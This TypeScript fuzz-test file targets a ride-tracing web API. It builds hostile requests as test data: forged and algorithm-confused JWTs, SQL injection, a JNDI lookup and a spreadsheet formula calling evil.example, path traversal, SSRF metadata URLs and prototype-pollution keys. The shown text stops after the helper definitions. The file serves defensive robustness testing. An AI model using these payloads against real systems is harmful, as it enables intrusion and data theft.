import { createClient, poolOf } from '@ridetrace/server';
import { ERROR_CODES, ERRORS, type ErrorCode } from '@ridetrace/shared';
import fc from 'fast-check';
import { createHmac, createSign, generateKeyPairSync, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useWorld } from '../support/fixtures.js';
import { clientToken, confirmedPassenger, createCarrier, passengerToken } from '../support/test-app.js';
import { officialPersonAuth } from '../support/flows.js';

/**
 * Property-based fuzzing of every route of the OpenAPI document (plus the hidden ones) with hostile requests:
 * wrong types, huge and unicode strings, nulls, extra fields, deep nesting, injection strings, odd path params
 * and query strings, forged and confused JWTs, forged carrier codes, next to valid tokens of every role and
 * valid-looking bodies (so the requests reach the handlers and the database, not only validation).
 *
 * Properties: no reply is 5xx (load shedding is off, so not even 503); every error reply is
 * `{ error: { code, message } }` with a code from ERROR_CODES; the server stays healthy afterwards.
 *
 * A second test sweeps every field of every route, one at a time, with a few special strings (NUL, lone
 * surrogate, bidi controls, injections, 6000 CJK characters) on an otherwise accepted request.
 *
 * FUZZ_SEED (default a fixed seed, so CI is reproducible) and FUZZ_RUNS (default 10,000) override the run; a
 * failure prints the seed and the shrunk request. Alone:
 * `FUZZ_SEED=<seed> FUZZ_RUNS=<n> pnpm exec vitest run --project api tests/api/fuzz-routes.test.ts`.
 * Server bugs already known are tolerated and counted (see KNOWN_DEVIATIONS); FUZZ_STRICT=1 refuses them too.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20261122);
const RUNS = Number(process.env.FUZZ_RUNS ?? 10_000);

const UNLIMITED = '1000000000';
/** Gateways' delivery receipts: a bearer token that is no JWT (POST /v1/delivery-receipts/{channel}). */
const RECEIPT_TOKEN = 'fuzz-delivery-receipt-token-0123456789';
const { t, w } = useWorld({
  DELIVERY_RECEIPT_TOKEN: RECEIPT_TOKEN,
  RATE_LIMIT_PER_IP_PER_MINUTE: UNLIMITED,
  RATE_LIMIT_PER_PASSENGER_PER_MINUTE: UNLIMITED,
  RATE_LIMIT_LOGIN_PER_MINUTE: UNLIMITED,
  SHED_MAX_EVENT_LOOP_DELAY_MS: '0',
  SHED_MAX_DB_WAITING: '0',
});

// --- the OpenAPI document, as far as the fuzzer reads it -------------------------------------------------------

interface Schema {
  type?: string;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  const?: unknown;
  enum?: unknown[];
  anyOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  items?: Schema;
  uniqueItems?: boolean;
}

interface Param {
  name: string;
  in: 'path' | 'query' | 'header';
  schema: Schema;
}

interface OpenApi {
  paths: Record<
    string,
    Record<
      string,
      {
        parameters?: Param[];
        requestBody?: { content: { 'application/json'?: { schema: Schema } } };
        security?: unknown[];
      }
    >
  >;
}

interface Operation {
  /** 'METHOD /path/{param}' */
  key: string;
  method: string;
  path: string;
  pathParams: Param[];
  query: Param[];
  body: Schema | undefined;
}

/** Routes the document hides (landing page, the document itself, Swagger UI's static files). */
const HIDDEN: Operation[] = [
  ...['/c/{token}', '/C/{token}'].map((path) => ({
    key: `GET ${path}`,
    method: 'GET',
    path,
    pathParams: [
      { name: 'token', in: 'path' as const, schema: { type: 'string', pattern: '^[A-Z2-7]{32}$' } },
    ],
    query: [],
    body: undefined,
  })),
  { key: 'GET /docs/json', method: 'GET', path: '/docs/json', pathParams: [], query: [], body: undefined },
  {
    key: 'GET /docs/static/{file}',
    method: 'GET',
    path: '/docs/static/{file}',
    pathParams: [{ name: 'file', in: 'path', schema: { type: 'string' } }],
    query: [],
    body: undefined,
  },
];

function operationsOf(doc: OpenApi): Operation[] {
  const ops: Operation[] = [];
  for (const [path, methods] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(methods)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const params = op.parameters ?? [];
      ops.push({
        key: `${method.toUpperCase()} ${path}`,
        method: method.toUpperCase(),
        path,
        pathParams: params.filter((p) => p.in === 'path'),
        query: params.filter((p) => p.in === 'query'),
        body: op.requestBody?.content['application/json']?.schema,
      });
    }
  }
  return ops;
}

// --- fixtures: real ids, codes and tokens, so that valid-looking requests go deep --------------------------------

interface Fixtures {
  carrierIds: number[];
  /** Carriers the run may retire or re-code (not the one the scans use). */
  expendableCarrierIds: number[];
  caseIds: string[];
  personIds: string[];
  clientIds: string[];
  clientSecrets: string[];
  /** Scannable codes (URL, bare token, other spellings, another operator's) and codes that must be refused. */
  codes: { good: string[]; bad: string[] };
  codeTokens: string[];
  statusTokens: string[];
  consentVersion: string;
  /** Full authorization header values of valid tokens, one or more per role. */
  validAuth: string[];
  /** Valid passenger tokens of throwaway passengers: the only ones DELETE /v1/passengers/me gets. */
  victimAuth: string[];
  /** Full authorization header values that must all be refused. */
  hostileAuth: string[];
}

let f: Fixtures;
let ops: Operation[];
/** Per route: the valid tokens it accepts (found by probing), so that most requests get past authorisation. */
const fitting = new Map<string, string[]>();

const b64url = (s: string | Buffer) => Buffer.from(s).toString('base64url');
const jsonPart = (o: unknown) => b64url(JSON.stringify(o));
const hs = (alg: 'sha256' | 'sha384' | 'sha512', key: Buffer | string, input: string) =>
  createHmac(alg, key).update(input).digest('base64url');

/** A JWT from parts: header and payload JSON, signature made by `sign` over `header.payload`. */
function jwt(header: object, payload: unknown, sign: (input: string) => string): string {
  const input = `${jsonPart(header)}.${jsonPart(payload)}`;
  return `${input}.${sign(input)}`;
}

/** Refused tokens: alg none, algorithm confusion, foreign keys, expired, tampered, malformed. */
function hostileTokens(secret: Buffer, valid: { passenger: string; admin: string }): string[] {
  const now = Math.floor(Date.now() / 1000);
  const admin = { sub: 'root', role: 'admin', scope: 'admin', iss: 'ridetrace', iat: now, exp: now + 3600 };
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const publicPem = publicKey.export({ type: 'spki', format: 'pem' });
  const rs256 = (input: string) =>
    createSign('RSA-SHA256').update(input).sign(privateKey).toString('base64url');
  const [ph, pp, ps] = valid.passenger.split('.') as [string, string, string];
  const [, , as] = valid.admin.split('.') as [string, string, string];
  const tokens = [
    // alg none and friends
    ...['none', 'None', 'NONE', 'nOnE'].map((alg) => jwt({ alg, typ: 'JWT' }, admin, () => '')),
    jwt({ alg: 'none' }, admin, (i) => hs('sha256', secret, i)),
    jwt({ typ: 'JWT' }, admin, (i) => hs('sha256', secret, i)),
    // algorithm confusion: asymmetric headers, the public key as an HMAC secret, other HMAC sizes
    jwt({ alg: 'RS256', typ: 'JWT' }, admin, rs256),
    jwt({ alg: 'RS256', typ: 'JWT' }, admin, (i) => hs('sha256', publicPem, i)),
    jwt({ alg: 'HS256', typ: 'JWT' }, admin, (i) => hs('sha256', publicPem, i)),
    jwt({ alg: 'HS512', typ: 'JWT' }, admin, (i) => hs('sha512', secret, i)),
    jwt({ alg: 'HS384', typ: 'JWT' }, admin, (i) => hs('sha384', secret, i)),
    jwt({ alg: 'ES256', typ: 'JWT' }, admin, () => b64url(Buffer.alloc(64, 7))),
    jwt({ alg: 'PS256', typ: 'JWT' }, admin, rs256),
    // embedded or remote keys, key-id injection
    jwt({ alg: 'RS256', jwk: publicKey.export({ format: 'jwk' }) }, admin, rs256),
    jwt({ alg: 'RS256', jku: 'http://169.254.169.254/jwks.json' }, admin, rs256),
    jwt({ alg: 'RS256', x5u: 'http://127.0.0.1:1/cert.pem' }, admin, rs256),
    jwt({ alg: 'HS256', kid: '../../../../../../dev/null' }, admin, (i) => hs('sha256', '', i)),
    jwt({ alg: 'HS256', kid: "' UNION SELECT 'secret' --" }, admin, (i) => hs('sha256', 'secret', i)),
    jwt({ alg: 'HS256', crit: ['exp'], typ: 'JWT' }, admin, (i) => hs('sha256', 'x', i)),
    // foreign HMAC secrets
    ...['', 'secret', 'ridetrace', secret.toString('base64')].map((k) =>
      jwt({ alg: 'HS256', typ: 'JWT' }, admin, (i) => hs('sha256', k, i)),
    ),
    // the server's key, but expired, not yet valid, another issuer, without exp or iss
    jwt({ alg: 'HS256', typ: 'JWT' }, { ...admin, iat: now - 7200, exp: now - 10 }, (i) =>
      hs('sha256', secret, i),
    ),
    jwt({ alg: 'HS256', typ: 'JWT' }, { ...admin, nbf: now + 3600 }, (i) => hs('sha256', secret, i)),
    jwt({ alg: 'HS256', typ: 'JWT' }, { ...admin, iss: 'evil' }, (i) => hs('sha256', secret, i)),
    jwt({ alg: 'HS256', typ: 'JWT' }, { ...admin, exp: undefined }, (i) => hs('sha256', secret, i)),
    jwt({ alg: 'HS256', typ: 'JWT' }, { ...admin, iss: undefined }, (i) => hs('sha256', secret, i)),
    jwt(
      { alg: 'HS256', typ: 'JWT' },
      { sub: 'x', role: 'passenger', scope: 'passenger', iss: 'ridetrace', iat: now - 99999, exp: now - 60 },
      (i) => hs('sha256', secret, i),
    ),
    // tampering with a real token: escalated payload, swapped or cut signatures
    `${ph}.${jsonPart({ ...JSON.parse(Buffer.from(pp, 'base64url').toString()), role: 'admin', scope: 'admin' })}.${ps}`,
    `${ph}.${pp}.${as}`,
    `${ph}.${pp}.`,
    `${ph}.${pp}`,
    `${ph}.${pp}.${ps}.${ps}`,
    `${ph}.${pp}.${ps.slice(0, -3)}`,
    `${ph}=.${pp}=.${ps}=`,
    // malformed
    'a.b.c',
    '..',
    '.',
    'null',
    'undefined',
    `${b64url('not json')}.${b64url('{')}.${b64url('x')}`,
    `${jsonPart('string header')}.${jsonPart([1, 2])}.x`,
    `${jsonPart({ alg: 'HS256' })}.${jsonPart(12)}.${b64url('x')}`,
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.' + '\u00e9'.repeat(8),
    'A'.repeat(9000),
  ];
  return [
    ...tokens.map((tok) => `Bearer ${tok}`),
    `bearer ${valid.admin}`,
    `BEARER ${valid.admin}`,
    `Bearer  ${valid.admin}`,
    `Bearer\t${valid.admin}`,
    `Bearer ${valid.admin} ${valid.admin}`,
    `Basic ${Buffer.from('admin:admin').toString('base64')}`,
    `Token ${valid.admin}`,
    valid.admin,
    'Bearer',
    'Bearer ',
    '',
    ' ',
  ];
}

// --- hostile values -------------------------------------------------------------------------------------------

const NASTY_STRINGS = [
  '',
  ' ',
  '\t\r\n',
  '\u0000',
  'a\u0000b',
  '\uFEFF',
  '\u202Egnp.exe',
  '\u200B\u200C\u200D',
  'ｅｖｉｌ',
  '𝕏𝕐ℤ',
  '👨‍👩‍👧‍👦',
  'é',
  'Z̴̡̢̛̗̘̙̜̝̞̟̠',
  '\uD800',
  '\uDFFF',
  '\uFFFF',
  '\\',
  '"',
  "'",
  '`',
  "' OR '1'='1",
  "'; DROP TABLE rides; --",
  '1; SELECT pg_sleep(10)--',
  "' UNION SELECT secret_hash FROM clients --",
  '$1',
  '%s%s%s%n',
  '\\x00',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3+cmd|',
  '@HYPERLINK("http://evil.example")',
  '\t=1',
  '"=1"',
  'a,b\n"c",d',
  '{"$gt":""}',
  '{"__proto__":{"admin":true}}',
  '"},"role":"admin","x":{"',
  '[]',
  '{}',
  'null',
  'true',
  'NaN',
  '-0',
  '1e309',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  'dev:admin',
  'ok:',
  'admin',
  'passenger staff carriers:write trace:read trace:reveal trace:notify admin',
  '2147483648',
  '-2147483649',
  '9007199254740993',
  '0x7fffffff',
  '1e3',
  '2026-02-30T25:61:61Z',
  '0000-00-00T00:00:00Z',
  '+275760-09-13T00:00:00.000Z',
  '1970-01-01T00:00:00Z',
  'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
];

const NASTY_NUMBERS = [
  0,
  -0,
  -1,
  1.5,
  63,
  64,
  2048,
  2049,
  2 ** 31 - 1,
  2 ** 31,
  2 ** 32,
  2 ** 53 + 2,
  -(2 ** 53),
  1e308,
  5e-324,
];

/** Encodes anything as a URL component, lone surrogates included (as U+FFFD bytes, like a browser). */
function enc(s: string): string {
  return [...Buffer.from(s, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).padStart(2, '0').toUpperCase()}`,
    )
    .join('');
}

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 48 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 48 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary-ascii', maxLength: 48 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('x', '名', '😀', '\u0000', 'é'), fc.integer({ min: 64, max: 24_000 }))
      .map(([c, n]) => c.repeat(n)),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...NASTY_STRINGS), fc.constantFrom(...NASTY_STRINGS))
      .map(([a, b]) => a + b),
  },
);

const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...NASTY_NUMBERS),
  fc.double(),
  fc.integer(),
);

/** `[[[[…]]]]` or `{"a":{"a":…}}`, `depth` deep. */
function nested(depth: number, kind: 'array' | 'object'): unknown {
  let v: unknown = kind === 'array' ? [] : { a: 1 };
  for (let i = 0; i < depth; i++) v = kind === 'array' ? [v] : { a: v };
  return v;
}

const hostileKey = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    '',
    ' ',
    '$where',
    'a.b',
    '0',
    'role',
    'admin',
  ),
  fc.string({ maxLength: 12 }),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 2, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 5, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileKey, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 2, max: 3000 }), fc.constantFrom('array' as const, 'object' as const))
      .map(([d, k]) => nested(d, k)),
  },
);

/** Bodies that are not the JSON they claim to be, or far too large, or far too deep. */
const rawPayload: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '{',
    '{"a":',
    '[',
    '"',
    'null',
    'true',
    '0',
    '"string"',
    '{"a":1}{"b":2}',
    "{'a':1}",
    '{"a":1,}',
    '{a:1}',
    'NaN',
    '1e999',
    '-',
    '\uFEFF{}',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"code":"x","code":"y"}',
    '{"\u0000":1}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.uint8Array({ maxLength: 256 }).map((a) => Buffer.from(a)),
  fc.integer({ min: 100, max: 60_000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
  fc.integer({ min: 100, max: 5000 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
  fc.integer({ min: 16_000, max: 70_000 }).map((n) => JSON.stringify({ code: 'x'.repeat(n) })),
);

const CONTENT_TYPES = [
  'application/json; charset=utf-8',
  'application/json; charset=latin1',
  'APPLICATION/JSON',
  'application/json, text/plain',
  'application/vnd.api+json',
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/xml',
  'application/octet-stream',
  '*/*',
  'json',
  '',
];

const RAW_SEGMENTS = [
  '0',
  '-1',
  '00001',
  '2147483647',
  '2147483648',
  '4294967296',
  '9007199254740993',
  '99999999999999999999999',
  '1e3',
  '1.5',
  '0x1f',
  '+1',
  '%201',
  '1%20',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '..',
  '.',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e',
  '..;',
  '%00',
  '%ff',
  '%',
  '%%',
  '%zz',
  '%C0%AE%C0%AE',
  '~',
  '*',
  '%3Cscript%3E',
  "1'OR'1'='1",
  '1;DROP%20TABLE%20rides',
  '$%7B7*7%7D',
  'a'.repeat(4000),
];

const RAW_QUERIES = [
  'limit=1&limit=2',
  'limit[]=1',
  'limit=',
  'limit',
  '=',
  '&&&',
  '%',
  '%zz=1',
  '__proto__[admin]=1',
  '__proto__=1',
  'constructor[prototype][admin]=1',
  'size=64&size=2048',
  'days=1e1',
  'days=0x10',
  'days= 1',
  'degree=2&degree=1',
  'degree=3',
  `cursor=${'9'.repeat(100)}`,
  'cursor=-1',
  'cursor=2147483648',
  'status=open&status=closed',
  `a=${'b'.repeat(10_000)}`,
];

// --- request generation ---------------------------------------------------------------------------------------

/** `arb` once in `n` draws, null otherwise. */
function sometimes<T>(arb: fc.Arbitrary<T>, n: number): fc.Arbitrary<T | null> {
  return fc.oneof({ weight: n - 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: arb });
}

interface FuzzRequest {
  op: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  remoteAddress?: string;
}

const DAY = 86_400_000;

/** Valid-looking values for a field, from its name and schema: real ids, codes and secrets where they exist. */
function knownFor(name: string, s: Schema, op: string): fc.Arbitrary<unknown> | undefined {
  const pick = <T>(xs: readonly T[]) => (xs.length ? fc.constantFrom(...xs) : undefined);
  switch (name) {
    case 'id':
      if (s.type !== 'integer') return pick(f.caseIds);
      // Retiring a carrier or replacing its code would end the scans of the rest of the run.
      return pick(
        /\/(retire|code)$/.test(op) && op.startsWith('POST') ? f.expendableCarrierIds : f.carrierIds,
      );
    case 'caseId':
      return pick(f.caseIds);
    case 'personId':
    case 'passengerId':
      return pick(f.personIds);
    case 'clientId':
      return pick([...f.clientIds, 'official_doesnotexist']);
    case 'clientSecret':
      return pick([...f.clientSecrets, 'wrong-secret']);
    case 'code':
      return fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom(...f.codes.good) },
        { weight: 2, arbitrary: fc.constantFrom(...f.codes.bad) },
      );
    case 'token':
      return s.pattern ? pick(f.codeTokens) : pick(f.statusTokens);
    case 'file':
      return pick([
        'index.html',
        'swagger-ui.css',
        'swagger-ui-bundle.js',
        '../package.json',
        '..%2F..%2Fpackage.json',
      ]);
    case 'consentVersion':
      return pick([f.consentVersion, '2020-01', '9999-99']);
    case 'loginCode':
      return fc.oneof(
        fc.constantFrom('ok:fuzz-p1', 'ok:fuzz-p2', 'ok:fuzz-unconfirmed', 'used', 'invalid'),
        fc.stringMatching(/^ok:[a-z0-9-]{1,20}$/),
        // What the (fake) super-app echoes back as the openid: hostile too.
        hostileString.map((x) => `ok:${x}`.slice(0, 128)),
      );
    case 'operatorId':
      return pick([w.operatorId, w.otherOperatorId, 'no-such-operator']);
    case 'scope':
      return pick([
        'trace:read',
        'trace:read trace:notify',
        'admin',
        'staff',
        'carriers:write',
        '',
        '  ',
        'passenger',
      ]);
    case 'cursor':
      return pick(['0', '1', '2', '50', '2147483647', '2147483648', '9999999999', '-1', 'abc', '']);
    case 'phone':
      return pick(['13812345678', '+86 139 0000 1111', '0086-13900002222', '13900001111']);
    case 'idNumber':
      return pick(['11010519491231002X', '440305199001011234', '000000000000000000']);
    case 'name':
      return s.pattern ? pick(['张三丰', '李四', 'Anna-Lena', "O'Brien", 'José María', '王五']) : undefined;
    default:
      return undefined;
  }
}

/** Values that satisfy the schema (or nearly: dates may lie in the future or too far back). */
function valid(name: string, s: Schema, op: string): fc.Arbitrary<unknown> {
  if (s.anyOf) return fc.oneof(...s.anyOf.map((x) => valid(name, x, op)));
  if ('const' in s) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  const known = knownFor(name, s, op);
  let generic: fc.Arbitrary<unknown>;
  switch (s.type) {
    case 'object': {
      const props = s.properties ?? {};
      const model = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valid(k, v, op)]));
      return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in props) });
    }
    case 'array': {
      const item = valid(name, s.items ?? {}, op);
      return s.uniqueItems
        ? fc.uniqueArray(item, { maxLength: 3, selector: (v) => JSON.stringify(v) })
        : fc.array(item, { maxLength: 3 });
    }
    case 'integer':
      generic = fc.integer({ min: s.minimum ?? -(2 ** 31), max: s.maximum ?? 2 ** 31 - 1 });
      break;
    case 'number':
      generic = fc.double({ min: s.minimum ?? -1e9, max: s.maximum ?? 1e9, noNaN: true });
      break;
    case 'boolean':
      generic = fc.boolean();
      break;
    case 'string':
      if (s.format === 'uuid') generic = fc.uuid();
      else if (s.format === 'date-time')
        generic = fc
          .oneof(
            { weight: 4, arbitrary: fc.integer({ min: -DAY + 60_000, max: 60_000 }) },
            { weight: 1, arbitrary: fc.integer({ min: -40 * DAY, max: 2 * DAY }) },
          )
          .map((ms) => new Date(Date.now() + ms).toISOString());
      else if (s.pattern) generic = fc.stringMatching(new RegExp(s.pattern, 'u'));
      else generic = fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 40, 40) });
      break;
    default:
      generic = fc.jsonValue({ maxDepth: 2 });
  }
  return known ? fc.oneof({ weight: 3, arbitrary: known }, { weight: 1, arbitrary: generic }) : generic;
}

/** A valid-looking object with one field replaced by a hostile value, dropped, or an extra field added. */
function mutated(s: Schema, op: string): fc.Arbitrary<unknown> {
  const keys = Object.keys(s.properties ?? {});
  const base = valid('body', s, op);
  if (!keys.length)
    return fc.tuple(base, hostileKey, hostileValue).map(([o, k, v]) => ({ ...(o as object), [k]: v }));
  return fc
    .tuple(
      base,
      fc.constantFrom(...keys),
      hostileValue,
      fc.nat(9),
      hostileKey,
      fc.constantFrom(...NASTY_STRINGS),
    )
    .map(([o, key, value, how, extra, suffix]) => {
      const copy = { ...(o as Record<string, unknown>) };
      if (how === 0) delete copy[key];
      else if (how === 1) copy[extra] = value;
      else if (how <= 3) copy[key] = `${typeof copy[key] === 'string' ? copy[key] : 'x'}${suffix}`;
      else copy[key] = value;
      return copy;
    });
}

function bodyFor(op: Operation): fc.Arbitrary<{ payload?: string | Buffer; json: boolean }> {
  const asJson = (v: unknown) => {
    const payload = JSON.stringify(v);
    return payload === undefined ? { json: false } : { payload, json: true };
  };
  const none = fc.constant({ json: false });
  const raw = rawPayload.map((payload) => ({ payload, json: true }));
  if (!op.body)
    return fc.oneof(
      { weight: 8, arbitrary: none },
      { weight: 1, arbitrary: hostileValue.map(asJson) },
      { weight: 1, arbitrary: raw },
    );
  return fc.oneof(
    { weight: 4, arbitrary: valid('body', op.body, op.key).map(asJson) },
    { weight: 6, arbitrary: mutated(op.body, op.key).map(asJson) },
    { weight: 2, arbitrary: hostileValue.map(asJson) },
    { weight: 2, arbitrary: raw },
    { weight: 1, arbitrary: none },
  );
}

function segmentFor(p: Param, op: string): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: valid(p.name, p.schema, op).map((v) => enc(String(v))) },
    { weight: 2, arbitrary: fc.constantFrom(...RAW_SEGMENTS) },
    { weight: 2, arbitrary: hostileString.map(enc) },
  );
}

function queryFor(op: Operation): fc.Arbitrary<string> {
  const param = (p: Param) =>
    fc
      .oneof(
        { weight: 4, arbitrary: valid(p.name, p.schema, op.key).map((v) => String(v)) },
        { weight: 1, arbitrary: hostileString },
        { weight: 1, arbitrary: hostileNumber.map(String) },
      )
      .map((v) => `${p.name}=${enc(v)}`);
  const own = op.query.length
    ? fc
        .subarray(op.query)
        .chain((ps) => (ps.length ? fc.tuple(...ps.map(param)) : fc.constant([] as string[])))
    : fc.constant([] as string[]);
  const extra = fc.tuple(hostileKey, hostileString).map(([k, v]) => `${enc(k)}=${enc(v)}`);
  return fc
    .tuple(own, sometimes(extra, 6), sometimes(fc.constantFrom(...RAW_QUERIES), 6))
    .map(([parts, ex, raw]) =>
      [...parts, ...(ex === null ? [] : [ex]), ...(raw === null ? [] : [raw])].join('&'),
    );
}

/** Only throwaway passengers delete their account, so the others stay usable for the whole run. */
const validAuthFor = (op: Operation) => (op.key === 'DELETE /v1/passengers/me' ? f.victimAuth : f.validAuth);

function authFor(op: Operation): fc.Arbitrary<string | undefined> {
  const valid = validAuthFor(op);
  const fit = fitting.get(op.key)?.length ? fitting.get(op.key)! : valid;
  const tampered = fc
    .tuple(fc.constantFrom(...valid), fc.nat(), fc.constantFrom('A', 'b', '-', '_', '.', '='))
    .map(([a, i, c]) => {
      const at = 7 + (i % (a.length - 7));
      return a.slice(0, at) + c + a.slice(at + 1);
    });
  return fc.oneof(
    { weight: 2, arbitrary: fc.constant(undefined) },
    { weight: 8, arbitrary: fc.constantFrom(...fit) },
    { weight: 2, arbitrary: fc.constantFrom(...valid) },
    { weight: 4, arbitrary: fc.constantFrom(...f.hostileAuth) },
    { weight: 1, arbitrary: tampered },
    { weight: 1, arbitrary: headerString.map((s) => `Bearer ${s}`) },
  );
}

/**
 * The valid tokens a route lets through: one request per token with real path values and, for methods with a
 * body, malformed JSON, so that no handler runs (authorisation is checked before the body is parsed).
 */
async function probeFitting(op: Operation): Promise<string[]> {
  const sample: Record<string, string> = {
    id: String(
      op.pathParams.find((p) => p.name === 'id')?.schema.type === 'integer' ? f.carrierIds[0] : f.caseIds[0],
    ),
    clientId: w.otherStaff.clientId,
    token: f.codeTokens[0]!,
    file: 'index.html',
  };
  const url = op.pathParams.reduce(
    (p, param) => p.replace(`{${param.name}}`, sample[param.name] ?? 'x'),
    op.path,
  );
  const bodyless = op.method === 'GET' || op.method === 'HEAD';
  const fit: string[] = [];
  for (const auth of validAuthFor(op)) {
    const res = await t.app.inject({
      method: op.method as 'GET',
      url,
      headers: { authorization: auth, ...(bodyless ? {} : { 'content-type': 'application/json' }) },
      ...(bodyless ? {} : { payload: '{' }),
    });
    if (res.statusCode !== 401 && res.statusCode !== 403) fit.push(auth);
  }
  return fit;
}

/** What an HTTP/1.1 header can carry: visible Latin-1 and spaces. */
const headerString = fc.string({
  unit: fc
    .integer({ min: 0x20, max: 0xff })
    .filter((c) => c !== 0x7f)
    .map((c) => String.fromCharCode(c)),
  maxLength: 300,
});

const extraHeaders = fc.record(
  {
    origin: fc.constantFrom('http://127.0.0.1:10086', 'https://evil.example', 'null', '*'),
    'x-forwarded-for': fc.oneof(fc.ipV4(), fc.constant('127.0.0.1, 10.0.0.1')),
    accept: fc.constantFrom('application/xml', '*/*', 'text/html', 'application/json;q=0', ''),
    'accept-encoding': fc.constantFrom('gzip', 'br', 'identity;q=0', '*'),
    'content-encoding': fc.constantFrom('gzip', 'deflate', 'identity'),
    'x-http-method-override': fc.constantFrom('DELETE', 'PATCH'),
    'access-control-request-method': fc.constantFrom('POST', 'DELETE', 'PUT'),
    cookie: headerString,
    'x-junk': headerString,
  },
  { requiredKeys: [] },
);

function requestFor(op: Operation): fc.Arbitrary<FuzzRequest> {
  const path = op.pathParams.length
    ? fc
        .tuple(...op.pathParams.map((p) => segmentFor(p, op.key)))
        .map((segs) => op.pathParams.reduce((p, param, i) => p.replace(`{${param.name}}`, segs[i]!), op.path))
    : fc.constant(op.path);
  const mangle = fc.constantFrom(
    (p: string) => `${p}/`,
    (p: string) => `/${p}`,
    (p: string) => p.toUpperCase(),
    (p: string) => `${p}/extra`,
    (p: string) => p.replace(/\//g, '%2F'),
    (p: string) => `${p}%00`,
    (p: string) => `${p};jsessionid=1`,
  );
  return fc
    .record({
      path,
      mangle: sometimes(mangle, 12),
      query: sometimes(queryFor(op), op.query.length ? 2 : 5),
      method: fc.oneof(
        { weight: 14, arbitrary: fc.constant(op.method) },
        { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') },
      ),
      body: bodyFor(op),
      contentType: fc.oneof(
        { weight: 10, arbitrary: fc.constant('application/json') },
        { weight: 2, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
      ),
      auth: authFor(op),
      extra: sometimes(extraHeaders, 4),
      remoteAddress: sometimes(fc.oneof(fc.ipV4(), fc.ipV6()), 4),
    })
    .map((r) => {
      const headers: Record<string, string> = { ...(r.extra ?? {}) };
      if (r.auth !== undefined) headers.authorization = r.auth;
      if (r.body.payload !== undefined) headers['content-type'] = r.contentType;
      const p = r.mangle ? r.mangle(r.path) : r.path;
      return {
        op: op.key,
        method: r.method,
        url: r.query === null ? p : `${p}?${r.query}`,
        headers,
        ...(r.body.payload !== undefined ? { payload: r.body.payload } : {}),
        ...(r.remoteAddress !== null ? { remoteAddress: r.remoteAddress } : {}),
      };
    });
}

// --- checks and figures ---------------------------------------------------------------------------------------

/**
 * Server bugs found and not fixed yet: replies that break the error contract, tolerated (counted and printed) so
 * that `pnpm test` stays usable. Each is pinned by an `it.fails` reproduction in fuzz-regressions.test.ts; once it
 * is fixed, remove the entry and the `.fails`. FUZZ_STRICT=1 makes the property refuse them too.
 */
const KNOWN_DEVIATIONS: {
  id: string;
  matches: (req: FuzzRequest, status: number, body: string) => boolean;
}[] = [
  // Empty: every deviation found so far is fixed and pinned in fuzz-regressions.test.ts.
];
const STRICT = process.env.FUZZ_STRICT === '1';

const deviations = new Map<string, number>();

const CODES = new Set<string>(ERROR_CODES);
/** Replies by route: status → count. */
const seen = new Map<string, Map<number, number>>();
